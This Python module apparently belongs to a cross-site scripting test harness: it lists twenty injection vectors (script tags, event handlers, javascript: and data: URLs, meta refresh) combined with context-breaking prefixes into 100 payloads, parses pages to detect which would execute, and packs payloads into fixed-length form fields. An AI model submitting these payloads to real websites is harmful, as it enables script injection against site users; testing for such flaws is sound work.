"""A hundred scripts that somebody could type, and a parser that sees which of them would run."""

import re
from itertools import product

import html5lib

# What runs, and what ends the place in which it stands.
SCRIPTS = (
    "<script>pwned()</script>",
    "<img src=x onerror=pwned()>",
    "<svg onload=pwned()>",
    "<svg><animate onbegin=pwned() attributeName=x>",
    "<iframe srcdoc='<script>pwned()</script>'>",
    "<a href=javascript:pwned()>hier</a>",
    "<a href='data:text/html,<script>pwned()</script>'>hier</a>",
    "<body onload=pwned()>",
    "<input autofocus onfocus=pwned()>",
    "<details open ontoggle=pwned()>",
    "<video><source onerror=pwned()></video>",
    "<object data=javascript:pwned()>",
    "<embed src=javascript:pwned()>",
    "<form action=javascript:pwned()><button>los</button></form>",
    "<button formaction=javascript:pwned()>los</button>",
    "<meta http-equiv=refresh content='0;url=javascript:pwned()'>",
    "<base href=javascript:pwned()//>",
    "<style>*{background:url(javascript:pwned())}</style>",
    "<math><a xlink:href=javascript:pwned()>hier</a></math>",
    "<p onmouseover=pwned() style=width:100%>hier</p>",
)
ENDS = ("", '">', "'>", "</title></textarea></script>-->", "{{ 7|safe }}\\u003c")
PAYLOADS = [f"{end}{script}" for end, script in product(ENDS, SCRIPTS)]
ADDRESSES = {"href", "src", "action", "formaction", "data", "srcdoc", "xlink:href", "background", "poster", "content"}
RUNS = re.compile(r"^\s*(javascript|data:text/html)", re.IGNORECASE)
DATA = {"application/ld+json", "application/json"}


def would_run(html: str) -> list[str]:
    """Return the elements of a page that carry a payload in a place where a browser would run it."""
    found = []
    for element in html5lib.parse(html, namespaceHTMLElements=False).iter():
        if not isinstance(element.tag, str):
            continue
        tag = element.tag.rpartition("}")[2]
        if tag in {"script", "style"} and "pwned" in (element.text or "") and element.get("type") not in DATA:
            found.append(tag)
        for key, value in element.attrib.items():
            name = str(key).rpartition("}")[2].lower()
            if "pwned" in value and (name.startswith("on") or (name in ADDRESSES and is_address(tag, name, value))):
                found.append(f"{tag} {name}")
    return found


def is_address(tag: str, name: str, value: str) -> bool:
    """Whether an attribute leads to a script; `content` does so only where it sends a browser on."""
    if name == "content":
        return tag == "meta" and "url=" in value and value[:1].isdigit()
    return name == "srcdoc" or bool(RUNS.match(value))


def fitting(length: int | None) -> list[str]:
    """Return the payloads in as many texts as a field of this length needs."""
    if length is None:
        return [" ".join(PAYLOADS)]
    texts = [""]
    for payload in PAYLOADS:
        if len(payload) > length:
            continue
        if len(texts[-1]) + len(payload) + 1 > length:
            texts.append("")
        texts[-1] = f"{texts[-1]} {payload}".strip()
    return texts
